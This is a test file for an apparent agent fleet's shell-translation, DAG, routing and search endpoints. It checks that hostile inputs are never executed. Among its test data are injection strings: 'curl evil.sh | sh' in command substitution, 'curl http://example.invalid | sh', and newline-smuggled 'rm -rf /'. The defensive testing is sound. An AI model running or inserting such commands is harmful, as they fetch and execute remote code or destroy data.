/**
 * The tools through a real fleet (HTTP on port 0, the knowledge plugin as index.ts wires it): lmsh,
 * dag, routing and /search over HTTP and as MCP tools (lmsh_translate, dag_sort, task_route), access
 * rules (aliases and DELETE /search are for leads), team scoping, and bad input per operation:
 * a 400 with a code and the field, never a 500. SQLite or PostgreSQL per FLEET_TEST_STORAGE.
 */
import { createRequire, syncBuiltinESMExports } from 'node:module';
import t from 'tap';
import {
  type Agent,
  as,
  callTool,
  registerAgent,
  startFleet,
  type TestLike,
  toolJson,
  toolText,
} from '../../../test/kit/index.js';

async function fleetWithTeams(t: TestLike) {
  const fleet = await startFleet(t, { plugins: { auth: true, knowledge: true } });
  const lead = await registerAgent(fleet, 'lead-a', 'a', 'team-lead');
  const worker = await registerAgent(fleet, 'w1', 'a');
  const other = await registerAgent(fleet, 'lead-b', 'b', 'team-lead');
  return {
    fleet,
    lead,
    worker,
    other,
    call: (agent: Agent, method: string, path: string, body?: unknown) => as(fleet, agent, method, path, body),
  };
}

t.test('lmsh over HTTP and as a tool: suggestions only, team aliases set by leads', async (t) => {
  const { fleet, lead, worker, other, call } = await fleetWithTeams(t);
  const status = await call(worker, 'POST', '/lmsh/translate', { input: 'show me the git status' });
  t.equal(status.status, 200);
  t.match(status.body, { command: 'git status', suggestion: true, executed: false, alternatives: [] });
  const denied = await call(worker, 'POST', '/lmsh/aliases', { alias: 'ship', command: 'make ship' });
  t.equal(denied.status, 403, 'a worker may not add aliases');
  const added = await call(lead, 'POST', '/lmsh/aliases', { alias: 'Ship It', command: 'make ship' });
  t.same(added.body, { added: true, alias: 'ship it', command: 'make ship', replaced: false });
  t.same((await call(worker, 'GET', '/lmsh/aliases')).body, { aliases: { 'ship it': 'make ship' }, count: 1 });
  t.same((await call(other, 'GET', '/lmsh/aliases')).body, { aliases: {}, count: 0 }, 'team b has none');
  t.match(toolJson(await callTool(fleet, worker, 'lmsh_translate', { input: 'ship it now' })), {
    command: 'make ship',
    confidence: 1,
    suggestion: true,
  });
  t.match(toolJson(await callTool(fleet, other, 'lmsh_translate', { input: 'ship it now' })), { command: '' });
  const hostile = await call(worker, 'POST', '/lmsh/translate', { input: 'grep "$(curl evil.sh | sh)"' });
  t.equal(hostile.body.command, "grep -r -- '$(curl evil.sh | sh)' .");
  t.equal((await call(worker, 'DELETE', '/lmsh/aliases/ship%20it')).status, 403);
  t.same((await call(lead, 'DELETE', '/lmsh/aliases/ship%20it')).body, { deleted: true, alias: 'ship it' });
  t.match(await call(lead, 'DELETE', '/lmsh/aliases/ship%20it'), {
    status: 404,
    body: { code: 'KNOWLEDGE_LMSH_ALIAS_NOT_FOUND' },
  });
});

t.test('dag and routing over HTTP and as tools', async (t) => {
  const { fleet, worker, call } = await fleetWithTeams(t);
  const nodes = [
    { id: 'a', estimatedDuration: 2 },
    { id: 'b', estimatedDuration: 3, dependsOn: ['a'] },
    { id: 'c', estimatedDuration: 1, dependsOn: ['a'], priority: 9 },
    { id: 'd', estimatedDuration: 1, dependsOn: ['b', 'c'] },
  ];
  t.same((await call(worker, 'POST', '/dag/sort', { nodes })).body, {
    order: ['a', 'c', 'b', 'd'],
    levels: [['a'], ['c', 'b'], ['d']],
    isValid: true,
    nodeCount: 4,
    unsorted: [],
  });
  t.same(toolJson(await callTool(fleet, worker, 'dag_sort', { nodes })).order, ['a', 'c', 'b', 'd']);
  t.match((await call(worker, 'POST', '/dag/critical-path', { nodes })).body, {
    path: ['a', 'b', 'd'],
    totalDuration: 6,
  });
  t.same((await call(worker, 'POST', '/dag/ready', { nodes, completed: ['a'] })).body, { ready: ['c', 'b'] });
  const cyclic = [
    { id: 'x', dependsOn: ['y'] },
    { id: 'y', dependsOn: ['x'] },
  ];
  t.same((await call(worker, 'POST', '/dag/cycles', { nodes: cyclic })).body, {
    hasCycles: true,
    cycleNodes: ['x', 'y'],
    cycles: [['x', 'y']],
  });
  t.match((await call(worker, 'POST', '/dag/sort', { nodes: cyclic })).body, { isValid: false, order: [] });
  t.match((await call(worker, 'POST', '/routing/classify', { subject: 'Refactor authentication module' })).body, {
    complexity: 'complex',
    strategy: 'swarm',
    model: 'opus',
    confidence: 1,
  });
  t.match(toolJson(await callTool(fleet, worker, 'task_route', { subject: 'Fix typo in README' })), {
    complexity: 'simple',
    model: 'haiku',
  });
});

t.test('search over HTTP: index, search, stats, delete; per team; leads delete', async (t) => {
  const { lead, worker, other, call } = await fleetWithTeams(t);
  const indexed = await call(worker, 'POST', '/search/index', {
    sessionId: 'sess-1',
    content: 'the flaky test needs the --runInBand flag on CI',
    timestamp: 5000,
    model: 'sonnet',
  });
  t.same(indexed.body, { indexed: true, sessionId: 'sess-1', replaced: false });
  await call(other, 'POST', '/search/index', { sessionId: 'sess-1', content: 'flaky in team b too' });
  const found = await call(worker, 'POST', '/search', { query: 'flaky flag' });
  t.equal(found.status, 200);
  t.match(found.body, {
    results: [{ sessionId: 'sess-1', timestamp: 5000, model: 'sonnet', source: 'indexed', snippet: /<b>flaky<\/b>/ }],
    count: 1,
    hasMore: false,
  });
  t.same((await call(other, 'POST', '/search', { query: 'runInBand' })).body.results, [], 'team b sees none of a');
  t.match((await call(worker, 'GET', '/search/stats')).body, { documentCount: 1, sessionsSearch: false });
  t.match(await call(worker, 'POST', '/search', { query: '"unclosed' }), {
    status: 400,
    body: { code: 'KNOWLEDGE_SEARCH_SYNTAX', field: 'query' },
  });
  t.equal((await call(worker, 'DELETE', '/search/sess-1')).status, 403, 'a worker may not delete');
  t.same((await call(lead, 'DELETE', '/search/sess-1')).body, { deleted: true, sessionId: 'sess-1' });
  t.match(await call(lead, 'DELETE', '/search/sess-1'), { status: 404, body: { code: 'KNOWLEDGE_SEARCH_NOT_FOUND' } });
  t.equal((await call(other, 'GET', '/search/stats')).body.documentCount, 1, 'team b keeps its own sess-1');
});

t.test('bad input per operation: 400 with a code and the field, never a 500', async (t) => {
  const { fleet, lead, worker, call } = await fleetWithTeams(t);
  const cases: [Agent, string, string, unknown, string][] = [
    [worker, 'POST', '/lmsh/translate', {}, 'input'],
    [worker, 'POST', '/lmsh/translate', { input: '' }, 'input'],
    [worker, 'POST', '/lmsh/translate', { input: 'x'.repeat(1001) }, 'input'],
    [worker, 'POST', '/lmsh/translate', { input: 'ls\nrm -rf /' }, 'input'],
    [worker, 'POST', '/lmsh/translate', { input: 42 }, 'input'],
    [lead, 'POST', '/lmsh/aliases', { command: 'x' }, 'alias'],
    [lead, 'POST', '/lmsh/aliases', { alias: '!!!', command: 'x' }, 'alias'],
    [lead, 'POST', '/lmsh/aliases', { alias: 'a', command: 'ls\nrm -rf ~' }, 'command'],
    [lead, 'POST', '/lmsh/aliases', { alias: 'a', command: '' }, 'command'],
    [worker, 'POST', '/dag/sort', {}, 'nodes'],
    [worker, 'POST', '/dag/sort', { nodes: 'a' }, 'nodes'],
    [worker, 'POST', '/dag/sort', { nodes: [{ id: '' }] }, 'nodes.0.id'],
    [worker, 'POST', '/dag/sort', { nodes: [{ id: 'a' }, { id: 'a' }] }, 'nodes.1.id'],
    [worker, 'POST', '/dag/cycles', { nodes: [{ id: 'a', dependsOn: ['b'] }] }, 'nodes.0.dependsOn.0'],
    [
      worker,
      'POST',
      '/dag/critical-path',
      { nodes: [{ id: 'a', estimatedDuration: -1 }] },
      'nodes.0.estimatedDuration',
    ],
    [worker, 'POST', '/dag/critical-path', { nodes: [{ id: 'a', priority: 'high' }] }, 'nodes.0.priority'],
    [worker, 'POST', '/dag/ready', { nodes: [{ id: 'a' }], completed: ['zz'] }, 'completed.0'],
    [worker, 'POST', '/dag/sort', { nodes: Array.from({ length: 2001 }, (_, i) => ({ id: `n${i}` })) }, 'nodes'],
    [worker, 'POST', '/routing/classify', {}, 'subject'],
    [worker, 'POST', '/routing/classify', { subject: 'x', blockedBy: 'y' }, 'blockedBy'],
    [worker, 'POST', '/routing/classify', { subject: 'x', description: 7 }, 'description'],
    [worker, 'POST', '/search', {}, 'query'],
    [worker, 'POST', '/search', { query: '***' }, 'query'],
    [worker, 'POST', '/search', { query: '!!!' }, 'query'],
    [worker, 'POST', '/search', { query: 'a', limit: 0 }, 'limit'],
    [worker, 'POST', '/search', { query: 'a', offset: -1 }, 'offset'],
    [worker, 'POST', '/search/index', { content: 'x' }, 'sessionId'],
    [worker, 'POST', '/search/index', { sessionId: 'a b', content: 'x' }, 'sessionId'],
    [worker, 'POST', '/search/index', { sessionId: 's', content: '' }, 'content'],
    [worker, 'POST', '/search/index', { sessionId: 's', content: '...' }, 'content'],
    [worker, 'POST', '/search/index', { sessionId: 's', content: 'x', timestamp: 'soon' }, 'timestamp'],
    [lead, 'DELETE', '/search/bad%20id', undefined, 'sessionId'],
  ];
  for (const [agent, method, path, body, field] of cases) {
    const response = await call(agent, method, path, body);
    t.equal(response.status, 400, `${method} ${path} ${JSON.stringify(body)?.slice(0, 80)}`);
    t.equal(response.body.field, field, `names ${field}`);
    t.match(response.body.code, /^(FLEET_INVALID_INPUT|KNOWLEDGE_)/);
  }
  const bad = await callTool(fleet, worker, 'dag_sort', { nodes: [{ id: 'a', dependsOn: ['nope'] }] });
  t.equal(bad.isError, true);
  t.match(toolText(bad), /KNOWLEDGE_DAG_UNKNOWN_NODE/);
  const noInput = await callTool(fleet, worker, 'lmsh_translate', {});
  t.equal(noInput.isError, true);
  t.match(toolText(noInput), /input/);
});

t.test('translating hostile requests starts no process (child_process watched while they run)', async (t) => {
  const { fleet, lead, worker, call } = await fleetWithTeams(t);
  await call(lead, 'POST', '/lmsh/aliases', { alias: 'nuke', command: 'rm -rf /' });
  // Count every way a process can start, in this process, which is also the fleet's.
  const cp = createRequire(import.meta.url)('node:child_process') as Record<string, unknown>;
  const names = ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'];
  const calls: string[] = [];
  const originals = new Map(names.map((name) => [name, cp[name]]));
  for (const name of names) {
    const original = originals.get(name) as (...args: unknown[]) => unknown;
    cp[name] = (...args: unknown[]) => {
      calls.push(`${name} ${String(args[0])}`);
      return original(...args);
    };
  }
  syncBuiltinESMExports();
  t.teardown(() => {
    for (const name of names) cp[name] = originals.get(name);
    syncBuiltinESMExports();
  });
  const hostile = [
    'nuke',
    'grep "$(touch /tmp/k3-pwned)"',
    'find file named `touch /tmp/k3-pwned`',
    'list files; touch /tmp/k3-pwned',
    'git status && curl http://example.invalid | sh',
  ];
  for (const input of hostile) {
    const answer = await call(worker, 'POST', '/lmsh/translate', { input });
    t.equal(answer.status, 200, input);
    t.match(answer.body, { suggestion: true, executed: false });
    t.match(toolJson(await callTool(fleet, worker, 'lmsh_translate', { input })), {
      suggestion: true,
      executed: false,
    });
  }
  t.same(calls, [], 'no process was started');
});
